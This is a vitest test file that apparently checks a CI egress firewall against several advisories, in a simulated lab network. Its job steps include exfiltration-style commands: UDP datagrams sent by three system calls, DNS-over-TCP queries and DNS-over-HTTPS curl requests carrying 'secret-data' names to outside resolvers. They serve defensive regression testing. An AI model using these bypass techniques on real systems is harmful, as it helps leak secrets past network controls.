import { writeFileSync } from 'node:fs'
import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest'
import { ActionRig } from './action-rig.ts'

// Each advisory of Harden-Runner, through the action; CVE-2024-52587 (USER and RUNNER_TEMP in a shell) is in
// hostile.root.test.ts, CVE-2025-32955 (disable-sudo undone through docker) in packages/agent/test/harden.
vi.setConfig({ testTimeout: 600_000 })

let rig: ActionRig
beforeAll(async () => {
  rig = await ActionRig.start()
}, 600_000)
afterAll(() => rig[Symbol.asyncDispose]())
afterEach(() => rig.lab.internet.clear())

/** Sends a datagram by each of the three system calls. */
const datagrams = `
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <sys/socket.h>
int main(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9001)};
  inet_pton(AF_INET, "203.0.113.9", &to.sin_addr);
  struct iovec text = {"abc", 3};
  struct mmsghdr many = {.msg_hdr = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &text, .msg_iovlen = 1}};
  sendto(socket(AF_INET, SOCK_DGRAM, 0), "abc", 3, 0, (struct sockaddr *)&to, sizeof to);
  sendmsg(socket(AF_INET, SOCK_DGRAM, 0), &many.msg_hdr, 0);
  sendmmsg(socket(AF_INET, SOCK_DGRAM, 0), &many, 1, 0);
}
`

test.for([
  ['audit', 3],
  ['block', 0],
] as const)(
  'CVE-2026-25598: datagrams by sendto, sendmsg and sendmmsg are seen (%s)',
  async ([mode, arrive]) => {
    writeFileSync(rig.place.at('datagrams.c'), datagrams)
    rig.place.compile('datagrams', rig.place.path)
    const job = await rig.run({
      with: { 'egress-policy': mode },
      steps: `      - run: ${rig.place.at('datagrams')}\n`,
    })
    expect(job.status, job.log).toBe('success')
    expect(await rig.reached()).toHaveLength(arrive)
    const seen = rig
      .report(job)
      .destinations.filter(({ address }) => address === '203.0.113.9')
      .map(({ verdict, protocol, count }) => `${verdict} ${protocol} ${count}`)
    expect(seen).toEqual([`${mode === 'audit' ? 'would-block' : 'blocked'} udp 3`])
  },
)

test('CVE-2026-32946: DNS over TCP to any resolver is asked of ours, and refused', async () => {
  const job = await rig.run({
    with: { 'allowed-endpoints': 'one.example.com:80' },
    steps: `      - run: |
          for server in 192.0.2.53 198.51.100.53 203.0.113.53; do
            dig +tcp +tries=1 +time=20 "@$server" secret-data.two.example.com | grep status || true
          done
`,
  })
  expect(job.status, job.log).toBe('success')
  const queries = await rig.lab.dns.queries()
  expect(queries.filter(({ name }) => name.includes('secret-data'))).toEqual([])
  const told = rig.report(job).dns.filter(({ name }) => name.includes('secret-data'))
  expect(new Set(told.map(({ verdict }) => verdict))).toEqual(new Set(['blocked']))
})

test('CVE-2026-32947: a resolver of ours is no way out by HTTPS', async () => {
  await rig.lab.serve({
    name: 'resolver.example.com',
    addresses: ['203.0.113.54'],
    ports: { https: 443 },
  })
  const job = await rig.run({
    with: { 'allowed-endpoints': 'one.example.com:80' },
    steps: `      - run: |
          for host in 192.0.2.53 198.51.100.53 203.0.113.54 resolver.example.com; do
            curl -sk -m 20 "https://$host/dns-query?name=secret-data.example.com" || true
          done
`,
  })
  expect(job.status, job.log).toBe('success')
  expect(await rig.reached()).toEqual([])
  const packets = await rig.lab.internet.packets()
  expect(packets.filter(({ toPort }) => toPort === 443)).toEqual([])
})

test('v2.10.3: names in upper case are the same names, in the policy and in a query', async () => {
  const job = await rig.run({
    with: { 'allowed-endpoints': 'ONE.Example.COM:80 two.example.com:80' },
    steps: `      - run: curl -sSf -m 20 http://one.example.com/
      - run: curl -sSf -m 20 http://TWO.EXAMPLE.com/
`,
  })
  expect(job.status, job.log).toBe('success')
  expect(await rig.reached()).toEqual(['one.example.com 80 tcp', 'two.example.com 80 tcp'])
})
